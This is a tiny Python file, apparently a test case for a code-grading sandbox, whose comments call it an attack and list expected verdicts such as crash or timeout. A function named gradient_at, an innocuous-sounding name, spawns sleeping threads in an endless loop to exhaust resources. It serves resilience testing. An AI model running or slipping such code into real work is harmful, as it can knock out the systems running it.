# attack: start threads until nothing is left
# verdict: error, crashed, timeout, failed
import threading
import time


def gradient_at(x, y):
    while True:
        threading.Thread(target=time.sleep, args=(60,)).start()
